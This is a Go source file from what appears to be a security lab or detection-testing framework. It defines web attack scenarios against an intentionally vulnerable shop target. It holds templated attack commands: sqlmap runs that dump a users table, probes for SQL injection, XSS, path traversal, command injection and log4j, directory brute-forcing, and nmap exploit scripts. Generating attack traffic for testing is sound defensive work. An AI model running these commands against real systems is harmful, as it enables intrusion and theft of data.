package lab

import (
	"context"
	"fmt"
	"strings"
	"time"

	"firetower/internal/attack"
)

// webAttacks: against the shop, which has the holes.
func webAttacks() []Scenario {
	shop := family{class: attack.WebAttack, limit: 45 * time.Second, play: strike}
	const sqlmap = "sqlmap --batch --flush-session --disable-coloring AGENT --threads THREADS "
	return []Scenario{
		shop.row("sqlmap-item", sqlmap+"-u 'http://VICTIM/item?id=ID' --technique=TECHNIQUE --dump -T users"),
		shop.row("sqlmap-login", sqlmap+"-u 'http://VICTIM/login' --data 'user=a&password=b' --level 2 --dbs"),
		shop.row("sqlmap-search", sqlmap+"-u 'http://VICTIM/search?q=lamp' --level 3 --risk 2"),
		shop.row("sqlmap-crawl", sqlmap+"-u 'http://VICTIM/' --crawl 1 --forms"),
		shop.row("sqlmap-time", sqlmap+"-u 'http://VICTIM/item?id=ID' --technique=T --time-sec 2 --current-user"),
		shop.row("sql-by-hand", "SELF probe -url http://VICTIM/item?id= -kind sql -count COUNT -every EVERY"),
		shop.row("sql-login", "SELF probe -url http://VICTIM/login?user= -post -kind sql -count COUNT -every EVERY"),
		shop.row("xss-search", "SELF probe -url http://VICTIM/search?q= -kind xss -count COUNT -every EVERY"),
		shop.row("xss-comment", "SELF probe -url http://VICTIM/comment?body= -post -kind xss -count COUNT -every EVERY -keep"),
		shop.row("traversal", "SELF probe -url http://VICTIM/file?name= -kind traversal -count COUNT -every EVERY"),
		shop.row("command", "SELF probe -url http://VICTIM/ping?host= -kind command -count COUNT -every EVERY -keep"),
		shop.row("templates", "SELF probe -url http://VICTIM/search?q= -kind log4j -count COUNT -every EVERY"),
		shop.row("wapiti", "wapiti -u http://VICTIM/ --flush-session --max-scan-time 40 -S normal -m sql,xss,file,exec"),
		shop.row("gobuster", "gobuster dir -q -t THREADS -w /usr/share/dirb/wordlists/small.txt -u http://VICTIM/"),
		shop.row("dirb", "dirb http://VICTIM/ /usr/share/dirb/wordlists/small.txt -S -r"),
		shop.row("wfuzz", "wfuzz -t THREADS -w /usr/share/wfuzz/wordlist/Injections/All_attack.txt 'http://VICTIM/search?q=FUZZ'"),
		shop.row("nmap-http", "nmap -n -Pn -p 80 --script 'http-sql-injection,http-enum,http-stored-xss,http-fileupload-exploiter' VICTIM", attack.PortScan),
	}
}

func strike(ctx context.Context, r *Run, line string) error {
	a, err := r.attacker(ctx)
	if err != nil {
		return err
	}
	r.against(r.Shop)
	line = strings.NewReplacer("VICTIM", r.at(r.Shop).String(), "ID", fmt.Sprint(r.between(1, 100)), "TECHNIQUE", r.pick("B", "BEU", "U", "BE"),
		"THREADS", r.pick("1", "1", "2", "4"), "AGENT", r.pick("", "--random-agent", "--random-agent"), "COUNT", fmt.Sprint(r.between(12, 60)),
		"EVERY", r.pick("50ms", "300ms", "800ms")).Replace(line)
	if rest, ok := strings.CutPrefix(line, "SELF "); ok {
		r.actor(ctx, a, "%s -seed %d", rest, r.Uint64())
		return nil
	}
	r.play(ctx, a, "%s", line)
	return nil
}
